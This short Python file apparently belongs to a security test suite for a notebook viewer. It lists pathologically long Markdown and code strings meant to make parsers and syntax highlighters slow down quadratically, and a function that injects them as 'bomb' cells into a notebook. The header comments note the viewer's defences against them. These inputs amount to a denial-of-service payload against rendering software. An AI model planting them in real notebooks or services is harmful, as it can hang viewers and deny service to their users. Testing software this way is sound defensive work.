# Tries: texts on which readers of Markdown and highlighters of code need a time that grows with the square of their length.
# Ends: text that was not released is not read as Markdown; a page shows only the beginning of a long program.
TEXTS = ("[" * 60_000, "*a_" * 30_000, "`" * 60_000 + "a", "<" * 60_000, "![" * 30_000, "> " * 30_000, "|-" * 30_000, "a\n=" * 20_000, "\\" * 60_001, "<!--" * 15_000, "1. " * 20_000, "&" * 60_000)


def attack(folder, notebook):
    for number, text in enumerate(TEXTS):
        notebook["cells"].append({"cell_type": "markdown", "id": f"bomb-{number}", "source": text, "metadata": {}})
    code = "x = " + "(" * 30_000 + "'" * 30_001 + "\"\"\"" * 9999 + "f'{" * 9999
    notebook["cells"].append({"cell_type": "code", "id": "bomb-code", "source": code, "metadata": {}, "outputs": [], "execution_count": None})
